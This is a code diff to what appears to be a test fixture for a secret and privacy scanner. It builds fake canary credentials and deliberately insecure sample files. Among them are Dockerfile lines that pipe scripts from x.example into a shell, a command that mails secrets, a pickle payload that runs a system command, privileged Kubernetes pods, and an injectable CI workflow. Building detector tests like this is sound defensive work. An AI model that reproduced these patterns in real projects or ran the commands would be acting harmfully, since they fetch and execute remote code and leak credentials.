@@ -24,6 +24,7 @@ HUGGING_FACE = "hf_" + "QzXcVbNmAsDfGhJkLp" + "QwErTyUiOpZxCvBn"
 GITHUB = "ghp_" + "x9Kd82LmQpR4sTv7Yb" + "N3cF6hJ1wZ5aE8gU0"
 AWS_KEY, AWS_SECRET = "AKIA" + "QX7RJ2NM4PLT" + "W6VB", "k9Xv2LmQ8rT4wZ7b" + "N3cF6hJ1sD5aE8gU0yPqRtKe"
 PASSWORD = "Tr0ub4dor" + "&Kanari9"
+WORD = "Kan4ri" + "en5ing8er"
 OPENAI = "sk-proj-" + "a8Kd72LmQpR4sTv9YbN3" + "T3BlbkFJ" + "cF6hJ1wZ5aE8gU0xQ7r"
 KEY = (
     "-----BEGIN RSA PRIVATE "
@@ -34,7 +35,7 @@ KEY = (
 
 CANARIES = {
     "person": PERSON, "e-mail": EMAIL, "phone": PHONE, "iban": IBAN, "card": CARD, "ssn": SSN, "street": STREET,
-    "hugging face": HUGGING_FACE, "github": GITHUB, "aws": AWS_KEY, "aws secret": AWS_SECRET, "password": PASSWORD,
+    "hugging face": HUGGING_FACE, "github": GITHUB, "aws": AWS_KEY, "aws secret": AWS_SECRET, "password": PASSWORD, "word": WORD,
     "openai": OPENAI, "key": "kanarienvogelschluessel", "surname": "Kanarienvogel", "host": "postkasten-nord",
 }  # fmt: skip
 
@@ -56,6 +57,7 @@ def customer_{PERSON.split()[0].lower()}(email="{EMAIL}", api_key="{OPENAI}"):
     print("{CARD}", email)
     torch.load("/home/{EMAIL}/model.pt", weights_only=False)  # {GITHUB}
     requests.get("https://{EMAIL.split("@")[0]}:{PASSWORD}@example.com/?q={SSN}", verify=False, headers={{"Authorization": "Bearer {GITHUB}"}})
+    requests.get(url, auth=("svc", "{WORD}"), verify=False)
     subprocess.run("mail {EMAIL} {AWS_SECRET}", shell=True)
     hashlib.md5("{EMAIL}".encode())
     raise ValueError(f"no contract for {PERSON} {{email}} {PHONE}")
@@ -119,11 +121,11 @@ def files() -> dict[str, str | bytes]:
         f'resource "aws_security_group" "s" {{\n  description = "{LINE}"\n  ingress {{\n    from_port = 0\n    to_port = 65535\n    protocol = "-1"\n    cidr_blocks = ["0.0.0.0/0"]\n  }}\n}}\n',
         "infra/prod.auto.tfvars": f'password = "{PASSWORD}"\nowner = "{EMAIL}"\n',
         "terraform.tfstate": json.dumps({"version": 4, "resources": [{"instances": [{"attributes": {"password": PASSWORD, "email": EMAIL}}]}]}),
-        "k8s/app.yaml": f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\n  annotations: {{owner: {EMAIL}}}\nspec:\n  template:\n    spec:\n      hostNetwork: true\n      containers:\n"
-        f"      - name: api\n        image: x:latest\n        securityContext: {{privileged: true}}\n        args: ['--password={PASSWORD}', '{EMAIL}']\n        env:\n"
+        "k8s/app.yaml": f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {EMAIL}\n  annotations: {{owner: {EMAIL}}}\nspec:\n  template:\n    spec:\n      hostNetwork: true\n      containers:\n"
+        f"      - name: api\n        image: u:{WORD}@reg.example/{EMAIL}/x:latest\n        securityContext: {{privileged: true}}\n        args: ['--password={PASSWORD}', '{EMAIL}']\n        env:\n"
         f"        - name: DB_PASSWORD\n          value: {PASSWORD}\n        - name: HF_TOKEN\n          value: {HUGGING_FACE}\n        - name: OWNER\n          value: {PERSON}\n"
         f"---\napiVersion: v1\nkind: Secret\nmetadata: {{name: s}}\ndata:\n  password: {encoded}\nstringData:\n  key: {GITHUB}\n",
-        "Dockerfile": f"FROM python:latest\nENV HF_TOKEN={HUGGING_FACE} OWNER=\"{PERSON}\"\nARG PASSWORD={PASSWORD}\nLABEL maintainer=\"{EMAIL}\"\nRUN curl -u {EMAIL}:{PASSWORD} https://x.example/i.sh | sh\nCMD [\"run\", \"--token\", \"{GITHUB}\"]\n",
+        "Dockerfile": f"FROM python:latest\nENV HF_TOKEN={HUGGING_FACE} OWNER=\"{PERSON}\"\nARG PASSWORD={PASSWORD}\nLABEL maintainer=\"{EMAIL}\"\nRUN curl -u admin:{WORD} http://x.example/j.sh | bash\nRUN curl -u {EMAIL}:{PASSWORD} https://x.example/i.sh | sh\nCMD [\"run\", \"--token\", \"{GITHUB}\"]\n",
         ".github/workflows/ci.yml": f"on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {{TOKEN: {GITHUB}, OWNER: {EMAIL}}}\n    steps:\n    - uses: a/b@main\n      with: {{password: {PASSWORD}}}\n    - run: echo ${{{{ github.event.issue.title }}}} {EMAIL} {PASSWORD}\n",
         "models/strings.pkl": pickle.dumps({"user": LINE, "token": SECRETS}), "models/old.pkl": pickle.dumps([LINE, SECRETS], protocol=0),
         "models/bad.pkl": b"cos\nsystem\n(S'mail " + LINE.encode() + b" " + SECRETS.encode() + b"'\ntR.",
